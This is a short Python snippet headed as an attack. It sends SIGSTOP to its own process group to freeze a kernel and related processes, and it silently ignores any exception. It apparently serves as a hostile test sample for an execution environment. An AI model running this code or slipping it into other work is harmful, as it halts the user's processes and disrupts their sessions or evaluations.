# attack: stop the kernel and its group
try:
    import os, signal
    os.killpg(0, signal.SIGSTOP)
except BaseException:
    pass
